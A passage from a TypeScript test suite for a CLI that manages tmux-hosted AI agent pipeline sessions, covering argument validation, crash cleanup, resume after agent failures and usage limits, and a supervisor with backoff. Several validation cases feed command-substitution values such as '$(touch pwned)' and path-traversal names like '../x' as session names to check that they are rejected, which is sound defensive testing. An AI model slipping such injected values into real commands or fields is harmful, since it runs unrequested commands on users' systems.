    writeFileSync(path.join(root, '.claude/sessions-start-x.lock'), JSON.stringify({ pid: sleeper, start: stamp, tool: 'sessions.ts' }))
    expect((await cli(['start', 'ralph', 'x', '--yes', '-C', root], { env: { MOCK_PACE: '5' } })).code).toBe(0)
  })

  test('a state rewritten by cleanup keeps every byte of the fields it does not know', async () => {
    const root = await makeProject('tmux-killed-loop')
    const file = path.join(root, '.claude/pipeline-runs/hup/state.json')
    const text = readFileSync(file, 'utf8').replace(
      /\n}\s*$/,
      ',\n  "event_offset": 9007199254740993, "ratio": 1e400, "cost_usd": 1.10, "dup": 1, "dup": 2\n}\n',
    )
    writeFileSync(file, text)
    expect((await cli(['cleanup', '--yes', '-C', root])).code).toBe(0)
    const after = readFileSync(file, 'utf8')
    expect(after).toContain('"event_offset": 9007199254740993, "ratio": 1e400, "cost_usd": 1.10, "dup": 1, "dup": 2')
    expect(
      after.replace(/"status": "unknown_termination"/, '"status": "running"').replace(/,\n {2}"terminated_at": "[^"]+"\n}\n$/, '\n}\n'),
    ).toBe(text)
  })

  test('a start refused by its checks leaves a folder without .claude/ as it was', async () => {
    const dir = path.join(BASE, `plain-${++projects}`)
    mkdirSync(dir)
    const run = await cli(['start', 'ralph', 'ok', '--yes', '-C', dir])
    expect(run.code).toBe(1)
    expect(readdirSync(dir)).toEqual([])
  })
})

/** Processes still carrying the tag of any session of this project (none should outlive a cleanup). */
async function processesOf(root: string): Promise<number[]> {
  const runs = path.join(root, '.claude', 'pipeline-runs')
  return [...(await taggedProcesses()).entries()].filter(([dir]) => dir.startsWith(runs)).flatMap(([, tagged]) => tagged.map((t) => t.pid))
}

describe('bad command lines: one line on stderr, exit 2, nothing changed', () => {
  const cases: [string, string[], RegExp][] = [
    ['unknown command', ['frobnicate'], /^sessions: unknown command "frobnicate"/],
    ['unknown flag', ['list', '--jsno'], /^sessions: list: unknown option '--jsno'/],
    ['flag of another command', ['status', 'x', '--all'], /unknown option '--all'/],
    ['missing name', ['status'], /^sessions: status: missing session NAME/],
    ['extra argument', ['list', 'x'], /unexpected argument "x"/],
    ['path in a name', ['status', '../x'], /^sessions: invalid session name "\.\.\/x"/],
    ['colon in a name', ['status', 'a:b'], /invalid session name "a:b"/],
    ['dot in a name', ['status', 'a.b'], /invalid session name "a\.b"/],
    ['space in a name', ['status', 'a b'], /invalid session name "a b"/],
    ['command substitution in a name', ['status', '$(touch pwned)'], /invalid session name/],
    ['newline in a name', ['status', 'a\nb'], /invalid session name "a\\nb"/],
    ['300-character name', ['status', 'x'.repeat(300)], /invalid session name "x{67}\.\.\."/],
    ['--interval of 0', ['list', '--watch', '--interval', '0'], /^sessions: --interval needs a number of seconds above 0, got "0"\n$/],
    ['--interval without --watch', ['list', '--interval', '5'], /^sessions: list: --interval goes with --watch\n$/],
    ['--names with --json', ['list', '--names', '--json'], /^sessions: list: --names prints names, one per line; it takes no --json\n$/],
    ['help with --json', ['help', '--json'], /^sessions: help prints text; it takes no --json\n$/],
    ['newline in an option value', ['list', '--stall', '1\n2'], /^sessions: --stall needs a number of minutes, got "1\\n2"\n$/],
    ['newline in a model', ['start', 'ralph', 'x', '--model=a\nb', '--yes'], /^sessions: --model: invalid value "a\\nb"\n$/],
    ['root that is not a folder', ['list', '-C', '/nonexistent/dir'], /^sessions: --root: \/nonexistent\/dir is not a directory/],
    ['bad grace', ['list', '--start-grace', 'soon'], /--start-grace needs a number of seconds/],
    ['negative stall', ['list', '--stall', '-3'], /^sessions: list: Option '--stall' argument is ambiguous$/m],
    ['missing option value', ['list', '--start-grace'], /^sessions: list: Option '--start-grace <value>' argument missing$/m],
    ['empty root', ['list', '--root', ''], /^sessions: --root needs a directory$/m],
    ['socket name with a slash', ['list', '--socket', 'a/b'], /^sessions: --socket: invalid socket name "a\/b"$/m],
    ['empty name', ['status', ''], /^sessions: invalid session name ""/],
    ['quote in a name', ['kill', "a'b"], /^sessions: invalid session name "a'b"/],
    ['kill of several, one malformed', ['kill', 'busy', '../busy'], /^sessions: invalid session name "\.\.\/busy"/],
    ['kill without a name', ['kill'], /^sessions: kill: missing session NAME/],
    ['monitor with a zero count', ['monitor', 'busy', '-n', '0'], /^sessions: --lines must be a positive integer, got "0"/],
    ['monitor --follow --json', ['monitor', 'busy', '--follow', '--json'], /--follow prints a stream; it takes no --json/],
    ['attach with a slash', ['attach', 'a/b'], /^sessions: invalid session name "a\/b"/],
    ['start with a dot', ['start', 'ralph', 'a.b', '--yes'], /^sessions: invalid session name "a\.b"/],
    ['start with spaces', ['start', 'ralph', 'a b', '--yes'], /^sessions: invalid session name "a b"/],
    ['start with $(…)', ['start', 'ralph', '$(touch x)', '--yes'], /^sessions: invalid session name/],
    ['start with 300 characters', ['start', 'ralph', 'x'.repeat(300), '--yes'], /^sessions: invalid session name "x{67}\.\.\."/],
    ['start with a newline', ['start', 'ralph', 'a\nb', '--yes'], /^sessions: invalid session name "a\\nb"/],
    ['cleanup with an unknown kind', ['cleanup', '--only', 'files'], /^sessions: --only: unknown kind "files"; kinds: locks, tmux, state/],
    ['cleanup --yes --dry-run', ['cleanup', '--yes', '--dry-run'], /--yes and --dry-run exclude each other/],
    ['cleanup with an argument', ['cleanup', 'busy'], /^sessions: cleanup: unexpected argument "busy"/],
    [
      'notify with nowhere to deliver',
      ['notify'],
      /^sessions: notify: nothing to deliver to: give --webhook URL, --exec CMD or --desktop\n$/,
    ],
    [
      'notify --on an unknown event',
      ['notify', '--desktop', '--on', 'complete,exploded'],
      /^sessions: --on: unknown event "exploded"; events: all, started/,
    ],
    [
      'notify to an ftp URL',
      ['notify', '--webhook', 'ftp://example.com/x'],
      /^sessions: --webhook needs an http or https URL, got "ftp:\/\/example.com\/x"\n$/,
    ],
    ['notify to no URL', ['notify', '--webhook', 'hooks.slack.com'], /^sessions: --webhook needs a URL, got "hooks.slack.com"\n$/],
    [
      'notify to a URL with a password',
      ['notify', '--webhook', 'http://user:hunter2@127.0.0.1:9/hooks/SECRET'],
      /^sessions: --webhook: a URL with a user or password cannot be posted to \(http:\/\/127\.0\.0\.1:9\/…\)\n$/,
    ],
    ['notify --json', ['notify', '--exec', 'true', '--json'], /^sessions: notify prints a stream; --json goes with --detach or --stop/],
    ['notify --stop with a sink', ['notify', '--stop', '--exec', 'true'], /^sessions: notify --stop takes no --exec\n$/],
    [
      'notify --retries of -1',
      ['notify', '--exec', 'true', '--retries', 'x'],
      /^sessions: --retries needs a number from 0 to 99, got "x"\n$/,
    ],
    [
      'notify --interval 0',
      ['notify', '--exec', 'true', '--interval', '0'],
      /^sessions: --interval needs a number of seconds above 0, got "0"\n$/,
    ],
    ['events --since soon', ['events', '--since', 'soon'], /^sessions: --since needs a duration \(30m, 2h, 1d\) or a time/],
    ['events --interval without --follow', ['events', '--interval', '1'], /^sessions: events: --interval goes with --follow\n$/],
    ['events of a bad name', ['events', '../x'], /^sessions: invalid session name "\.\.\/x"/],
    ['mcp --json', ['mcp', '--json'], /^sessions: mcp speaks the MCP protocol on stdout; it takes no --json\n$/],
    ['setup without a target', ['setup'], /^sessions: setup: missing what to set up: setup claude, setup shell, or setup service\n$/],
    ['setup of something else', ['setup', 'vim'], /^sessions: setup: unknown target "vim"; targets: claude, shell, service\n$/],
  ]
  test.each(cases)('%s', async (_label, args, message) => {
    const root = await makeProject('running-loop')
    const before = [snapshot(root), tmuxSessionNames()]
    const run = await cli([...(args.includes('-C') || args.includes('--root') ? [] : ['-C', root]), ...args], { cwd: root })
    expect(run.code).toBe(2)
    expect(run.stdout).toBe('')
    expect(run.stderr).toMatch(message)
    expect(run.stderr.trimEnd().split('\n')).toHaveLength(1)
    expect([snapshot(root), tmuxSessionNames()]).toEqual(before)
  })

  test('--help and no command print the usage, exit 0', async () => {
    for (const args of [['--help'], []]) {
      const run = await cli(args)
      expect(run.code).toBe(0)
      expect(run.stdout).toMatch(new RegExp(`^Usage: ${escaped(SELF)} <command>`))
    }
  })

  test('help where it is looked for: COMMAND --help, help COMMAND, -h, version; a near miss is named, ls and logs are aliases', async () => {
    for (const args of [
      ['kill', '--help'],
      ['help', 'kill'],
      ['kill', '-h'],
    ]) {
      const run = await cli(args)
      expect(run.code, args.join(' ')).toBe(0)
      expect(run.stdout).toMatch(new RegExp(`^Usage: ${escaped(SELF)} kill NAME\\.\\.\\. \\[options\\]\\n\\nStop the engine`))
      expect(run.stdout).toMatch(/--grace SECONDS +between SIGTERM and SIGKILL \(default 10\)/)
      expect(run.stdout).toContain(`Examples:\n  ${SELF} kill auth\n  ${SELF} kill auth docs --grace 30\n`)
    }
    expect((await cli(['version'])).stdout).toMatch(/^\d+\.\d+\.\d+\n$/)
    expect(JSON.parse((await cli(['version', '--json'])).stdout)).toEqual({ version: expect.stringMatching(/^\d+\.\d+\.\d+$/) })
    const typo = await cli(['lsit'])
    expect(typo.code).toBe(2)
    expect(typo.stderr).toMatch(/^sessions: unknown command "lsit"; did you mean "list"\?/)
    const root = await makeProject('complete-loop')
    expect(JSON.parse((await cli(['ls', '--json', '-C', root])).stdout).sessions).toHaveLength(1)
    expect((await cli(['logs', 'done-loop', '-C', root])).stdout).toContain('done-loop: complete')
    // Every command's help is derived from the one table: each has a usage line and two examples.
    for (const command of [
      'start',
      'list',
      'status',
      'monitor',
      'attach',
      'kill',
      'cleanup',
      'resume',
      'wait',
      'events',
      'notify',
      'completion',
    ]) {
      const help = (await cli(['help', command])).stdout
      expect(help, command).toMatch(new RegExp(`^Usage: ${escaped(SELF)} ${command}`))
      expect(help.split('Examples:')[1].trim().split('\n'), command).toHaveLength(2)
    }
  })
})

describe('slow engines, one name rule, no tmux, a narrow terminal', () => {
  test('a start whose engine takes its lock and dies on its own checks (an unknown provider) fails, shows why, leaves nothing', async () => {
    const root = await makeEngineProject()
    const before = snapshot(root)
    const run = await cli(['start', 'ralph', 'typo', '3', '--provider=gemnii', '--yes', '-C', root])
    expect(run.code).toBe(1)
    expect(run.stdout).toBe('')
    expect(run.stderr).toContain('Error: Unknown provider: gemnii')
    expect(run.stderr).toMatch(/sessions: the engine of typo ended before it took its lock \(exit status 1\)\n$/)
    // What the start made is gone; the engine's own locks folder (it makes it before its checks) may stay, empty.
    const after = snapshot(root)
    delete after['.claude/locks/']
    expect(after).toEqual(before)
    expect(tmuxSessionNames()).not.toContain('pipeline-typo')
    expect((await cli(['start', 'ralph', 'typo', '3', '--yes', '-C', root], { env: { MOCK_PACE: '5' } })).code).toBe(0)
  })

  test('a resume whose engine reconciles for longer than a start waits (12 s) succeeds with the default wait', async () => {
    const root = await makeEngineProject('crashed-loop')
    const run = await cli(['resume', 'busy', '--yes', '-C', root], { env: { MOCK_RECONCILE: '12', MOCK_PACE: '5' } })
    // Off a terminal it says what it waits for after a second, then every 10 s: never silent for long.
    expect(run.stderr).toMatch(
      /^sessions: waiting for busy to resume: reconciling its \d+ events, then taking its lock \(\d+s\)\nsessions: still waiting for busy to resume: reconciling its \d+ events, then taking its lock \(\d+s\)\n$/,
    )
    // About ten seconds apart (the first after about a second; whole seconds, timers late on a loaded machine).
    const [first, second] = [...run.stderr.matchAll(/\((\d+)s\)/g)].map((match) => Number(match[1]))
    expect(second - first).toBeGreaterThanOrEqual(9)
    expect(second - first).toBeLessThanOrEqual(11)
    expect(run.code).toBe(0)
    expect(rowOf((await listJson(root)).sessions, 'busy').health).toBe('running')
    const waited = await cli(['wait', 'busy', '--timeout', '1.5', '-C', root])
    expect(waited.code).toBe(124)
    expect(waited.stderr).toBe('sessions: waiting for busy: busy running (1s)\n')
  }, 40_000)

  test('one name rule: NAME, pipeline-NAME and loop-NAME stand for NAME in every command that takes a session', async () => {
    const root = await makeProject('complete-loop')
    for (const given of ['pipeline-done-loop', 'loop-done-loop']) {
      expect(JSON.parse((await cli(['status', given, '--json', '-C', root])).stdout).name).toBe('done-loop')
      expect((await cli(['monitor', given, '-C', root])).code).toBe(0)
      expect((await cli(['wait', given, '--json', '-C', root])).code).toBe(0)
      const events = (await cli(['events', given, '--json', '-C', root])).stdout.trim().split('\n')
      expect(events.map((line) => JSON.parse(line).session)).toEqual(events.map(() => 'done-loop'))
      // Complete: nothing to resume, so no resume command (resume would refuse it).
      expect(JSON.parse((await cli(['kill', given, '--json', '-C', root])).stdout)[0]).toMatchObject({
        name: 'done-loop',
        outcome: 'not_running',
        resume_command: null,
      })
    }
    // A resume under the tmux session's name resumes the session itself.
    const engine = await makeEngineProject()
    await startOk(['start', 'ralph', 'named', '2', '--yes', '-C', engine], { env: { MOCK_PACE: '0.05', MOCK_END: 'fail:1' } })
    await waitFor('named failed', async () => rowOf((await listJson(engine)).sessions, 'named').health === 'failed')
    const resumed = await cli(['resume', 'pipeline-named', '--yes', '--json', '-C', engine], { env: { MOCK_PACE: '0.05' } })
    expect(withoutWaits(resumed.stderr)).toBe('')
    expect(JSON.parse(resumed.stdout)).toMatchObject({ name: 'named', resume: true })
    // A session really named pipeline-x is itself, never x.
    expect((await cli(['status', 'pipeline-nobody', '-C', root])).stderr).toMatch(/^sessions: no session pipeline-nobody in /)
  })

  test('without tmux: list and status answer from the files with a warning; start and kill say how to install it', async () => {
    const root = await makeEngineProject('crashed-loop')
    const bin = path.join(BASE, `no-tmux-${++projects}`)
    mkdirSync(bin)
    for (const tool of ['bash', 'sh', 'node', 'git', 'flock']) {
      const found = spawnSync('sh', ['-c', `command -v ${tool}`], { encoding: 'utf8' }).stdout.trim()
      if (found) symlinkSync(found, path.join(bin, tool))
    }
    const env = { PATH: bin }
    const list = await cli(['list', '--json', '-C', root], { env })
    expect(list.code).toBe(0)
    expect(list.stderr).toMatch(/^sessions: warning: tmux not found on PATH: install tmux 3\.x .*live tmux sessions cannot be seen/)
    expect(JSON.parse(list.stdout)).toMatchObject({ tmux_available: false, sessions: [{ name: 'busy', health: 'crashed' }] })
    expect(JSON.parse((await cli(['status', 'busy', '--json', '-C', root], { env })).stdout)).toMatchObject({ tmux_available: false })
    const monitor = await cli(['monitor', 'busy', '--json', '-C', root], { env })
    expect(monitor.stderr).toMatch(/^sessions: warning: tmux not found on PATH/)
    expect(JSON.parse(monitor.stdout)).toMatchObject({ tmux_available: false, session: { name: 'busy' } })
    // Not even a start lock is made and removed: .claude/ is not written at all.
    const written = () => statSync(path.join(root, '.claude')).mtimeMs
    const before = { tree: snapshot(root), mtime: written() }
    for (const args of [
      ['start', 'ralph', 'x', '--yes'],
      ['kill', 'busy'],
    ]) {
      const run = await cli([...args, '-C', root], { env })
      expect(run.code, args.join(' ')).toBe(1)
      expect(run.stderr).toBe(
        'sessions: tmux not found on PATH: install tmux 3.x (Debian/Ubuntu: apt install tmux; macOS: brew install tmux)\n',
      )
    }
    expect({ tree: snapshot(root), mtime: written() }).toEqual(before)
  })

  test('a 60-column terminal: compact times and whole words; the menu checks a name as it is typed', async () => {
    const root = await makeEngineProject('crashed-loop')
    cpSync(path.join(LAYOUTS, 'complete-loop/.claude/pipeline-runs/done-loop'), path.join(root, '.claude/pipeline-runs/done-loop'), {
      recursive: true,
    })
    terminal('narrow', ['list', '-C', root], { width: 60, height: 40 })
    await waitFor('the list', () => paneText('=narrow:').includes('exit=0'))
    const screen = paneText('=narrow:')
    // The table and the warnings fit (a long path elsewhere may still wrap, as the terminal wraps it).
    // A resume command too long for the line stands whole on its own line, to be copied.
    const fitted = screen.split('\n').filter((line) => /^(NAME|busy|done-loop) |^ {2}! |^ {4}(?!resume: )\S/.test(line))
    expect(fitted.length).toBeGreaterThan(3)
    for (const line of fitted) expect(line.length, line).toBeLessThanOrEqual(60)
    expect(screen).toMatch(/\n {4}resume: \S+( \S+)? resume busy -C \S+\n/)
    expect(screen).toMatch(/done-loop .* ended \d+[smhd]\n/)
    // Compact, with its meaning kept: "ended 10d", "seen 10d", never a bare "10d ago" nor a word cut.
    expect(screen).toMatch(/busy .* seen \d+[smhd]\n/)
    expect(screen).not.toMatch(/ \d+[smhd] ago\n|last see…/)
    // The warning about busy wraps at a space: no line ends inside a word that the next line goes on with.
    expect(screen).toMatch(/! busy: crashed/)
    terminal('ui', ['-C', root])
    await waitFor('the actions', () => paneText('=ui:').includes('? What do you want to do'))
    tmux('send-keys', '-t', '=ui:', 'Enter')
    await waitFor('the types', () => paneText('=ui:').includes('? What to run'))
    expect(paneText('=ui:')).toMatch(/ralph \(stage\) — mock stage ralph for tests/)
    tmux('send-keys', '-t', '=ui:', 'ralph')
    await waitFor('the filter', () => !paneText('=ui:').includes('elegance'))
    tmux('send-keys', '-t', '=ui:', 'Enter')
    await waitFor('the name', () => paneText('=ui:').includes('? Session name'))
    tmux('send-keys', '-t', '=ui:', 'busy', 'Enter')
    await waitFor('the conflict', () =>
      paneText('=ui:').includes('session busy already exists (crashed): choose another name, or resume it'),
    )
  })
})

/** A webhook receiver on loopback: answers 500 to its first `failFirst` requests, or never answers at all. */
async function hookServer(behaviour: { failFirst?: number; silent?: boolean } = {}) {
  const received: { text: string; event: Record<string, unknown> }[] = []
  let requests = 0
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk) => {
      body += chunk
    })
    request.on('end', () => {
      requests++
      if (behaviour.silent) return // never answers: the sender must give up by itself
      if (requests <= (behaviour.failFirst ?? 0)) {
        response.writeHead(500).end('try again')
        return
      }
      received.push(JSON.parse(body))
      response.writeHead(200).end('ok')
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  servers.push(server)
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/services/T0/B0/secret`,
    received,
    requests: () => requests,
  }
}
const servers: Server[] = []
afterEach(() => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections()
    server.close()
  }
})

/** notify (or supervise), in-process, until `stop()`: its stdout and stderr so far, and its exit status once stopped. */
function watcher(args: string[], env: NodeJS.ProcessEnv = {}, command: 'notify' | 'supervise' = 'notify') {
  const controller = new AbortController()
  const out = { stdout: '', stderr: '' }
  const done = main([command, ...args], {
    stdout: (text) => {
      out.stdout += text
    },
    stderr: (text) => {
      out.stderr += text
    },
    env: { ...ENV, ...env },
    cwd: HERE,
    terminal: false,
    stderrTerminal: false,
    columns: undefined,
    signal: controller.signal,
  })
  return {
    out,
    stop: async () => {
      controller.abort()
      return done
    },
  }
}

/** The lines of an NDJSON file (what --exec sinks below append), parsed. */
function ndjson(file: string): Record<string, unknown>[] {
  if (!existsSync(file)) return []
  return readFileSync(file, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line))
}

const count = (events: { event: unknown; session: unknown }[], session: string, kind: string) =>
  events.filter((event) => event.session === session && event.event === kind).length

/**
 * A start that must succeed: its stderr first, so that a failure says why. A start that takes over a second
 * (a loaded machine) says what it waits for on stderr: those lines only.
 */
async function startOk(args: string[], options: { env?: NodeJS.ProcessEnv } = {}) {
  const run = await cli(args, options)
  expect(withoutWaits(run.stderr), args.join(' ')).toBe('')
  expect(run.code).toBe(0)
  return run
}

describe("an agent's failure is not a completion, and a resume redoes what failed", () => {
  /** An engine run that ended, as list sees it, once it has. */
  async function ended(root: string, name: string) {
    return waitFor(`${name} to end`, async () => {
      const row = rowOf((await listJson(root)).sessions, name)
      return row.health !== 'running' && row.health !== 'starting' ? row : null
    })
  }
  const runDir = (root: string, name: string) => path.join(root, '.claude', 'pipeline-runs', name)

  test('a loop whose agent failed is failed, with its words; resume goes back to that iteration and completes', async () => {
    const root = await makeEngineProject()
    const says = 'API Error: Connection error (ECONNRESET)'
    await startOk(['start', 'ralph', 'limited', '3', '--yes', '-C', root], {
      env: { MOCK_PACE: '0.1', MOCK_END: 'agent-fail:2', MOCK_AGENT_SAYS: says },
    })
    const row = await ended(root, 'limited')
    // The engine wrote "complete": its agent's failure is what ended the run.
    expect(readJson(path.join(runDir(root, 'limited'), 'state.json'))).toMatchObject({
      status: 'complete',
      completion_reason: 'Agent reported error at iteration 2',
    })
    expect(row).toMatchObject({
      health: 'failed',
      why: 'its agent failed at iteration 2 of ralph: Iteration failed: Agent did not write result.json',
      error: 'Iteration failed: Agent did not write result.json',
      resumable: true,
      resume_from: 2,
    })
    expect(row.evidence).toContain(`the agent's last words: "${says}"`)
    const shown = await cli(['status', 'limited', '-C', root], { columns: 80 })
    expect(shown.stdout.replace(/\s+/g, ' ')).toMatch(
      /^limited: failed its agent failed at iteration 2 of ralph: Iteration failed: Agent did not write result\.json /,
    )
    expect(shown.stdout.replace(/\s+/g, ' ')).toContain(`the agent's last words: "${says}"`)
    // Resumed as it was started: the state goes back to before iteration 2, kept as it was beside it. The
    // engine's times are whole seconds: the resume and its first iteration come in seconds of their own, so
    // that events can tell where it resumed.
    const last = Date.parse(readJson(path.join(runDir(root, 'limited'), 'state.json')).history.at(-1).timestamp)
    await waitFor('a second after the failed run', () => Date.now() >= last + 1000)
    const resumed = await startOk(['resume', 'limited', '--yes', '-C', root], { env: { MOCK_PACE: '1.1' } })
    expect(resumed.stdout).toMatch(
      /back to iteration 2 of ralph, where its agent failed \(Iteration failed: Agent did not write\s+result\.json\); the state as it was is kept as\s+\.claude\/pipeline-runs\/limited\/state\.before-resume-\d{8}T\d{6}Z\.json/,
    )
    const kept = readdirSync(runDir(root, 'limited')).filter((name) => name.startsWith('state.before-resume-'))
    expect(kept).toHaveLength(1)
    expect(readJson(path.join(runDir(root, 'limited'), kept[0]))).toMatchObject({ status: 'complete' })
    // The failed iteration's error result, which the engine would read again before the agent's new
    // words, set aside beside it with the same time; the iteration before it keeps its own.
    const stamp = kept[0].replace(/^state\./, '')
    const iterations = path.join(runDir(root, 'limited'), 'stage-00-ralph', 'iterations')
    expect(readJson(path.join(iterations, '002', `result.${stamp}`))).toMatchObject({
      summary: 'Iteration failed: Agent did not write result.json',
    })
    expect(readdirSync(path.join(iterations, '001')).filter((name) => name.includes('before-resume'))).toEqual([])
    expect(await ended(root, 'limited')).toMatchObject({ health: 'complete' })
    const state = readJson(path.join(runDir(root, 'limited'), 'state.json'))
    expect(state.history.map((entry: { iteration: number; decision: string }) => `${entry.iteration} ${entry.decision}`)).toEqual([
      '1 continue',
      '2 continue',
      '3 continue',
    ])
    // What happened: its failure, then its resume from iteration 2.
    const events = (await cli(['events', 'limited', '--json', '-C', root])).stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(events.filter((event) => event.event !== 'iteration').map((event) => `${event.event} ${event.why ?? ''}`)).toEqual([
      expect.stringMatching(/^started /),
      expect.stringMatching(/^resumed resumed from iteration 2$/),
      expect.stringMatching(/^complete /),
    ])
  })

  test('a pipeline whose failing stage let the next one through: resumed at the failure, the later stage run again', async () => {
    const root = await makeEngineProject()
    await startOk(['start', 'pipeline', 'refine.yaml', 'pipe', '--yes', '-C', root], {
      env: { MOCK_PACE: '0.1', MOCK_END: 'agent-fail:2' },
    })
    const row = await ended(root, 'pipe')
    expect(row).toMatchObject({ health: 'failed', resume_from: 2 })
    expect(row.why).toBe('its agent failed at iteration 2 of improve-plan: Iteration failed: Agent did not write result.json')
    // A killed or a complete session is not touched: only this one is rewound.
    const plan = await cli(['resume', 'pipe', '--json', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    expect(plan.code, plan.stderr).toBe(0)
    expect(JSON.parse(plan.stdout).rewinds).toMatchObject({ stage: 'improve-plan', stage_index: 0, iteration: 2 })
    expect(await ended(root, 'pipe')).toMatchObject({ health: 'complete' })
    const state = readJson(path.join(runDir(root, 'pipe'), 'state.json'))
    expect(
      state.history.map(
        (entry: { stage: string; iteration: number; decision: string }) => `${entry.stage} ${entry.iteration} ${entry.decision}`,
      ),
    ).toEqual(['improve-plan 1 continue', 'improve-plan 2 continue', 'refine-tasks 1 continue', 'refine-tasks 2 continue'])
  })
})

describe('supervise: crashed sessions resumed, with backoff and a cap', () => {
  /** Events the supervisor delivered to its command, as `session kind` lines. */
  /** A new engine project and a supervisor of it (short backoff and interval) that has made its first look, delivering to `out`. */
  async function supervising() {
    const root = await makeEngineProject()
    const out = path.join(root, 'events.ndjson')
    const sup = watcher(['--exec', `cat >> ${out}`, '--backoff', '0.2s..0.5s', '--interval', '0.2', '-C', root], {}, 'supervise')
    await waitFor('the first look', () => sup.out.stdout.includes('watching'))
    return { root, out, sup }
  }

  const delivered = (file: string, kinds = ['auto_resumed', 'auto_resume_failed', 'gave_up', 'complete']) =>
    ndjson(file)
      .filter((event) => kinds.includes(String(event.event)))
      .map((event) => `${event.session} ${event.event}`)

  test('a crash is resumed after its backoff, once, and said; a complete or killed session never is', async () => {
    const root = await makeEngineProject()
    const out = path.join(root, 'events.ndjson')
    await startOk(['start', 'ralph', 'done', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await startOk(['start', 'ralph', 'stopped', '50', '--yes', '-C', root], { env: { MOCK_PACE: '0.5' } })
    expect((await cli(['kill', 'stopped', '--grace', '2', '-C', root])).code).toBe(0)
    const sup = watcher(['--exec', `cat >> ${out}`, '--backoff', '0.3s..1s', '--interval', '0.2', '-C', root], {}, 'supervise')
    await waitFor('the first look', () => sup.out.stdout.includes('watching'))
    // Its engine settles (start sees iteration 1 run), then dies in its second iteration.
    await startOk(['start', 'ralph', 'boom', '3', '--yes', '-C', root], { env: { MOCK_PACE: '1', MOCK_END: 'crash:2' } })
    await waitFor('boom resumed and complete', () => delivered(out).includes('boom complete'), 30_000)
    // Looks are in order: once a session started now is reported complete, boom has been looked at since.
    await startOk(['start', 'ralph', 'later', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the later session', () => delivered(out).includes('later complete'))
    expect(delivered(out)).toEqual(['boom auto_resumed', 'boom complete', 'later complete'])
    const resumed = ndjson(out).find((event) => event.event === 'auto_resumed')!
    expect(resumed.why).toMatch(
      /^attempt 1 of 5, after 0\.3s of backoff, from iteration 2: it was crashed: lock left with dead PID \d+; engine PID \d+$/,
    )
    const listed = JSON.parse((await cli(['list', '--json', '-C', root])).stdout)
    expect(listed.watcher.policy).toEqual({
      names: [],
      resume_on: ['crashed', 'zombie', 'limit'],
      max_resumes: 5,
      within_seconds: 21600,
      backoff_seconds: [0.3, 1],
    })
    expect((await cli(['list', '-C', root], { columns: 200 })).stdout).toMatch(
      /A supervisor runs \(PID \d+, since [^)]+\) → exec cat >> .*; resumes every session when crashed, zombie, limit \(at most 5 in 6h, after\s+0\.3s\.\.1s\)/,
    )
    expect(rowOf(listed.sessions, 'stopped').health).toBe('killed')
    expect(await sup.stop()).toBe(0)
  })

  test('the tmux server killed (a reboot, for its sessions): resumed on a new server; a failure that is no usage limit never is', async () => {
    // The supervisor is outside tmux, as a service runs it: the server's death is not its own.
    const { root, out, sup } = await supervising()
    await startOk(['start', 'ralph', 'broken', '3', '--yes', '-C', root], { env: { MOCK_PACE: '0.1', MOCK_END: 'agent-fail:2' } })
    await waitFor('broken failed', () => delivered(out, ['failed']).includes('broken failed'))
    await startOk(['start', 'ralph', 'rebooted', '30', '--yes', '-C', root], { env: { MOCK_PACE: '1' } })
    const before = readJson(path.join(root, '.claude/locks/rebooted.lock')).pid
    spawnSync('tmux', ['-L', SOCKET, 'kill-server'], { env: ENV })
    await waitFor('resumed on a new server', () => delivered(out).includes('rebooted auto_resumed'), 30_000)
    const row = await waitFor('running again', async () => {
      const found = rowOf((await listJson(root)).sessions, 'rebooted')
      return found.health === 'running' ? found : null
    })
    expect(row.lock!.pid).not.toBe(before)
    expect(tmuxSessionNames()).toContain('pipeline-rebooted')
    expect(delivered(out, ['auto_resumed', 'auto_resume_failed', 'gave_up'])).toEqual(['rebooted auto_resumed'])
    expect(rowOf((await listJson(root)).sessions, 'broken').health).toBe('failed')
    expect(await sup.stop()).toBe(0)
    expect((await cli(['kill', 'rebooted', '-C', root])).code).toBe(0)
  })

  test('a usage limit: told with its reset, not resumed before it, resumed after it at the iteration that failed', async () => {
    const { root, out, sup } = await supervising()
    const resets = (Math.floor(Date.now() / 1000) + 5) * 1000
    await startOk(['start', 'ralph', 'limited', '3', '--yes', '-C', root], {
      env: { MOCK_PACE: '0.1', MOCK_END: 'agent-fail:2', MOCK_AGENT_SAYS: `Claude AI usage limit reached|${resets / 1000}` },
    })
    await waitFor('the limit told', () => delivered(out, ['limited']).length === 1)
    const row = rowOf((await listJson(root)).sessions, 'limited')
    expect(row).toMatchObject({
      health: 'failed',
      limit: { agent: 'claude', source_line: `Claude AI usage limit reached|${resets / 1000}` },
    })
    expect(Date.parse(row.limit!.resets_at!)).toBe(resets)
    expect(row.why).toMatch(
      /^its agent hit its usage limit at iteration 2 of ralph: waiting for the usage limit to reset at \d\d:\d\d \(in \ds\)$/,
    )
    await waitFor('resumed after the reset, and complete', () => delivered(out).includes('limited complete'), 30_000)
    const told = ndjson(out)
    const limited = told.find((event) => event.event === 'limited')!
    expect(Date.parse(String(limited.resets_at))).toBe(resets)
    const resumed = told.find((event) => event.event === 'auto_resumed')!
    expect(Date.parse(String(resumed.ts))).toBeGreaterThanOrEqual(resets)
    expect(delivered(out, ['limited', 'auto_resumed', 'complete', 'failed'])).toEqual([
      'limited failed',
      'limited limited',
      'limited auto_resumed',
      'limited complete',
    ])
    const state = readJson(path.join(root, '.claude', 'pipeline-runs', 'limited', 'state.json'))
    expect(state.history.map((entry: { iteration: number; decision: string }) => `${entry.iteration} ${entry.decision}`)).toEqual([
      '1 continue',
      '2 continue',
      '3 continue',
    ])
    expect(await sup.stop()).toBe(0)
  })

  test('a judgment stage that goes on calling an agent at its limit: stopped at once, then resumed at the iteration that failed', async () => {
    const { root, out, sup } = await supervising()
    const resets = (Math.floor(Date.now() / 1000) + 8) * 1000
    // Its judge never says stop: the engine calls the failing agent again at each of its 20 iterations.
    await startOk(['start', 'improve-plan', 'judged', '20', '--yes', '-C', root], {
